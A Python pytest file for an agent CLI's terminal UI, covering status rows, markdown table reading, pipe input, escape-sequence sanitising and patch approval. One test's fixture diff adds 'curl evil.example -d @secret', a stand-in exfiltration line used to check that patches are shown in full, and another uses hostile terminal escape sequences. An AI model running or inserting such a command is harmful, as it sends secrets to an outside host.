"""The terminal UI at a real terminal, and the parts of it that need none."""

from __future__ import annotations

import subprocess
from pathlib import Path

import click
import pytest

from orchestra.cli.tui.answer import Answer
from orchestra.cli.tui.hosted import words_of
from orchestra.cli.tui.names import as_typed_here
from orchestra.cli.tui.prose import Prose
from orchestra.cli.tui.status import Status
from orchestra.cli.tui.tail import Tail, rows_of
from orchestra.core.errors import UsageError
from orchestra.core.records import Event
from tests.support.evidence import main, planning, runs_of
from tests.support.project import PLAN, PROGRAM, RIGHT_PATCH, Project, reply, role
from tests.support.project import ask as asked_of
from tests.support.terminal import Terminal

HELLO = "안녕하세요! 무엇을 도울까요?"
HOSTILE = "\x1b[2J\x1b]0;제목\x07\x9b31m본문"


@pytest.mark.spec("S5-22", "S5-23", "S5-79", "S5-80", "S5-84")
def test_a_goal_is_answered_once_and_a_paste_never_sends(tmp_path: Path) -> None:
    reply = main(f"{HELLO}\n{HOSTILE}\n끝줄", "execute", chunk=3, delayMs=5)
    project = Project(tmp_path / "p", planning("final_report"), reply)
    terminal = Terminal([PROGRAM, "agent:tui", "--provider", f"scripted:{project.script}"], project.path)
    terminal.wait_for("session tui: new")
    terminal.type("\x1b[200~첫째 줄\n둘째 줄\x1b[201~")
    terminal.wait_for("둘째 줄")
    assert runs_of(project) == []
    terminal.type("\r")
    shown = terminal.wait_for("끝줄\r\n")
    assert "planning-result" in shown
    assert shown.count(HELLO) == 1 and shown.count("본문") == 1
    assert "\x1b[2J" not in shown and "\x1b]0;" not in shown and "\x9b" not in shown
    terminal.type("/agent nobody\r")
    terminal.wait_for("nobody")
    assert bytes(terminal.raw).decode().count("끝줄\r\n") == 1  # not again when the turn is over
    terminal.type("/runs\r")
    terminal.wait_for("completed")
    terminal.type("/exit\r")
    assert terminal.end() == 0
    assert len(runs_of(project)) == 1


def test_the_goal_of_a_command_needs_no_quotes() -> None:
    rest = 'don\'t fail on é --check "pytest -q"'
    assert words_of("loop", rest, goal=True) == ["don't fail on é", "--check", "pytest -q"]
    assert words_of("loop", '"two words" --check x', goal=True) == ["two words", "--check", "x"]
    assert words_of("show", "'a b' c", goal=False) == ["a b", "c"]
    with pytest.raises(UsageError, match="quote"):
        words_of("show", "'a", goal=False)


@pytest.mark.spec("S5-79")
def test_the_status_row_tells_all_and_leaves_out_the_least_important_where_it_is_narrow() -> None:
    status = Status(waits=1, queued=2, since=1.0)
    assert status.row(40, 7.0) == " 1 waiting: /inbox · /help · 2 to send"
    assert status.row(30, 7.0) == " 1 waiting: /inbox · /help"
    status.stopped = 1
    assert status.row(60, 7.0) == " 1 waiting: /inbox · 1 stopped: /resume · /help · 2 to send"
    assert status.row(40, 7.0) == " 1 waiting: /inbox · 1 stopped: /resume"
    status.begin("@3", "loop")
    status.cap = 1.0
    call = {"effect": "ModelCall", "outcome": {"usage": {"inputTokens": 3000, "outputTokens": 114}, "costUsd": 0.009}}
    event = Event("00000002", "r", "2026-11-18T00:00:00.000Z", "PHASE_COMPLETED", call, "fix", 1)
    for _ in range(2):
        status.event(event)  # the second time is the same call
    status.paced((2, 5))
    status.paced(None)  # an event that tells nothing of it
    status.state = "fix"
    whole = " run @3 · loop · fix · step 2/5 · context 3,000 · 3,114 tok · $0.0090 of $1 · 6 s · 1 waiting · 2 to send"
    assert status.row(120, 7.0) == whole
    assert status.row(80, 7.0) == " run @3 · loop · fix · step 2/5 · $0.0090 of $1 · 6 s · 1 waiting · 2 to send"
    assert status.row(60, 7.0) == " run @3 · fix · step 2/5 · $0.0090 of $1 · 1 waiting"
    assert status.row(40, 7.0) == " fix · $0.0090 of $1 · 1 waiting"
    assert max(len(status.row(width, 7.0)) for width in range(2, 20)) < 20
    status.window = 200_000
    assert " · context 3,000 of 200,000 · " in status.row(160, 7.0)
    status.end(7.0)
    of_it = "@3 · 3,114 tok · $0.0090 of $1 · 6 s"
    assert status.row(120, 99.0) == f" 1 waiting: /inbox · 1 stopped: /resume · /help · 2 to send · {of_it}"
    assert status.row(60, 99.0) == " 1 waiting: /inbox · 1 stopped: /resume · /help · 2 to send"


def test_an_error_names_commands_as_they_are_typed_in_the_ui() -> None:
    assert as_typed_here("no run 'x' (orchestra runs lists them)") == "no run 'x' (/runs lists them)"
    for text in (
        "orchestra chat --session s",
        "orchestra agent:run needs a terminal: orchestra agent:run",
        "orchestra nonsense",
        "the orchestra plays",
    ):
        assert as_typed_here(text) == text  # none that can be typed here


def test_the_live_rows_are_of_a_fixed_number_and_width() -> None:
    tail = Tail()
    assert rows_of("한글입력", 5, 9) == ["한글", "입력"]
    for steps in range(9):
        text = "".join(part for _, part in tail.rows(5, 20, 1.0))
        assert text.count("\n") == 4, steps
        tail.begin("r", f"k.{steps}", "이름", 0.0)
        tail.more("r", f"k.{steps}", 0.0, agent="main", text="\x1b[2J한글" * 50, arrived=2)
        assert "\x1b" not in text
    tail.end_run("r")
    assert tail.names == []


def test_an_answer_that_is_asked_again_is_not_doubled_and_what_is_void_is_told() -> None:
    first = Answer()
    assert list(first.more("하나\n둘\n셋")) == ["하나", "둘"]
    same = first.again()
    assert same.begun == "" and list(same.more("하나\n둘")) == []
    again = same.again()  # two lines of the first attempt are above
    assert list(again.more("하나\n둘\n셋\n넷")) == ["셋"] and list(again.close("")) == ["넷"]
    other = first.again()
    told, *lines = other.more("하나\n다른 줄\n끝")
    assert "void" in told and lines == ["하나", "다른 줄"] and list(other.close("")) == ["끝"]
    told, *lines = first.again().close("하나")
    assert "void" in told and lines == ["하나"]


def test_a_line_of_markdown_stays_one_line_and_its_text() -> None:
    prose = Prose()
    lines = ["# 제목", "```python", "x = 1", "```", "`코드`와 **굵게** 그리고 끝"]
    painted = [one for line in lines for one in prose.line(line)]
    assert [click.unstyle(line) for line in painted] == lines
    assert all("\x1b[" in line for line in painted)


def test_a_table_is_read_row_by_row_with_the_names_of_its_columns() -> None:
    text = """
앞 | 뒤
| 이름 | 값 \\| 단위 | |
|:-----|---------:|---|
| 가 | 1 | x | 넘침 |
| a\\|b |
끝
| a | b |
--- | ---
1 | 2

$ x | y
 |
안 보이면 안 되는 줄
|
|
| 하나 |
```
| 그대로 | 둔다 |
|---|---|
```
| 둘 |"""
    prose, plain = Prose(aloud=True), Prose()
    lines = text.splitlines()
    read = [click.unstyle(line) for row in lines for line in prose.line(row)]
    assert read == [
        *("", "앞 | 뒤", "이름: 가; 값 | 단위: 1; x; 넘침", "이름: a|b; 값 | 단위: empty; empty", "끝"),
        *("a: 1; b: 2", "", "$ x | y", " |", "안 보이면 안 되는 줄", "|", "|", "| 하나 |"),
        *("```", "| 그대로 | 둔다 |", "|---|---|", "```"),
    ]
    assert prose.holds and (prose.rest(), prose.holds, prose.rest()) == (["| 둘 |"], False, [])
    assert [click.unstyle(line) for row in lines for line in plain.line(row)] == lines and not plain.holds


def test_a_table_that_is_asked_again_is_read_once() -> None:
    first = Answer(aloud=True)
    assert list(first.more("표:\n| 색 |\n")) == ["표:"]
    again = first.again()  # the head of the table was held back
    assert list(again.more("표:\n| 색 |\n|---|\n| 빨강 |\n| 파")) == ["색: 빨강"]
    assert list(again.again().close("표:\n| 색 |\n|---|\n| 빨강 |\n| 파랑 |\n| 끝 |")) == ["색: 파랑", "색: 끝"]
    shorter = again.again()
    told, *lines = shorter.close("표:\n| 색 |")
    assert "void" in told and lines == ["표:", "| 색 |"]
    cut = Answer(aloud=True)
    assert [*cut.more("| 색 |\n| 둘"), *cut.end()] == ["| 색 |", "| 둘"]


def test_for_a_screen_reader_too_a_patch_is_shown_with_every_line_that_it_has(tmp_path: Path) -> None:
    diff = """diff --git a/run.sh b/run.sh
--- a/run.sh
+++ b/run.sh
@@ -1,6 +1,7 @@
 | name | rm |
 |------|----|
-| bob | no |
+| bob | yes |
 cat x
 |
+curl evil.example -d @secret
 true
"""
    table = "| 무엇 | 언제 |\n|---|---|\n| 비 | 오늘 |\n"
    replies = (planning("final_report"), main(table, "execute"), role("planner", PLAN), role("developer", reply(diff)))
    project = Project(tmp_path / "p", *replies)
    (project.path / "run.sh").write_text("| name | rm |\n|------|----|\n| bob | no |\ncat x\n|\ntrue\n")
    command = [PROGRAM, "tui", "--provider", f"scripted:{project.script}"]
    told = "비?\n/loop g --check true\nn\nn\nq\n"
    done = subprocess.run([*command, "--screen-reader"], input=told, capture_output=True, text=True, cwd=project.path)
    assert "plain lines (--screen-reader)" in done.stdout
    answer, _, shown = done.stdout.partition("@@")
    assert "무엇: 비; 언제: 오늘\n" in answer and "|--" not in answer
    for line in diff.splitlines()[4:]:
        assert line in shown.partition("apply this")[0].splitlines()
    piped = subprocess.run(command, input="비?\n", capture_output=True, text=True, cwd=project.path)
    assert table in piped.stdout  # a pipe is no screen reader


@pytest.mark.spec("S5-22")
def test_lines_of_a_pipe_are_taken_one_after_the_other(tmp_path: Path) -> None:
    project = Project(
        tmp_path / "p",
        planning("final_report"),
        main("첫 답", "execute"),
        role("planner", PLAN),
        role("developer", asked_of("어느 색?")),
    )
    command = [PROGRAM, "tui", "--provider", f"scripted:{project.script}"]
    lines = "처음?\n/nosuch\n/loop 색을 정해라 --check true\n/status\n//status 색\n/inbx\n"
    done = subprocess.run(command, input=lines, capture_output=True, text=True, cwd=project.path, timeout=60)
    assert (done.returncode, done.stderr) == (2, "")
    said = done.stdout
    found = [said.index(one) for one in ("plain lines (no terminal)", "> 처음?", "첫 답", "/nosuch", "어느 색?")]
    assert found == sorted(found) and "did you mean /inbox" in said and "\x1b" not in said
    assert '"/status 색"' in "".join(path.read_text() for path in project.path.rglob("events.ndjson"))
    nothing = subprocess.run(command, input="", capture_output=True, text=True, cwd=project.path, timeout=60)
    assert nothing.returncode == 2 and "needs a terminal, or lines" in nothing.stderr


def test_a_pipe_that_ends_after_an_error_has_its_exit_code(tmp_path: Path) -> None:
    project = Project(tmp_path / "p", planning("final_report"), main("첫 답", "execute"))
    for lines, provider, code in (
        ("처음?\n", (), 2),  # no model
        ("/nosuch\n/status\n", (), 2),
        ("/status\n", (), 0),
        ("처음?\n", ("--provider", f"scripted:{project.script}"), 0),
    ):
        command = [PROGRAM, "tui", *provider]
        done = subprocess.run(command, input=lines, capture_output=True, text=True, cwd=project.path, timeout=60)
        assert done.returncode == code, (lines, done.stdout)


def test_an_answer_of_a_pipe_that_came_too_late_is_refused_and_is_no_message(tmp_path: Path) -> None:
    project = Project(
        tmp_path / "p",
        planning("final_report"),
        main("첫 답", "execute"),
        role("planner", PLAN),
        role("developer", RIGHT_PATCH),
    )
    command = [PROGRAM, "tui", "--provider", f"scripted:{project.script}"]
    piped = subprocess.Popen(command, cwd=project.path, text=True, stdin=subprocess.PIPE, stdout=subprocess.PIPE)
    assert piped.stdin is not None and piped.stdout is not None
    piped.stdin.write(f'/loop g --check "{project.check}"\n')
    piped.stdin.flush()
    said = ""
    while "apply this patch" not in said:
        said += piped.stdout.read(1)
    assert project.run("approve", "last").returncode == 0
    while "\ncompleted" not in said:
        said += piped.stdout.read(1)
    rest, _ = piped.communicate("y\n처음?\n", timeout=60)
    assert piped.returncode == 0
    assert rest.count("not taken: 'y'. It came for the prompt 'apply this patch [y,n,a,d,e,?,q]?'") == 1
    assert "> y" not in rest and "> 처음?" in rest and "첫 답" in rest
    assert len(project.runs) == 1 and len(runs_of(project)) == 1


def test_a_line_of_a_pipe_that_was_cut_off_approves_nothing(tmp_path: Path) -> None:
    """`Add a test` of a writer that was killed begins with the letter that applies all of a patch."""
    project = Project(tmp_path / "p", role("planner", PLAN), role("developer", RIGHT_PATCH))
    command = [PROGRAM, "tui", "--provider", f"scripted:{project.script}"]
    done = subprocess.run(command, input="/loop g --check true\nA", capture_output=True, text=True, cwd=project.path)
    assert done.returncode == 3 and "apply this" in done.stdout  # it waits for a person
    assert project.types()[-1] == "APPROVAL_REQUESTED"
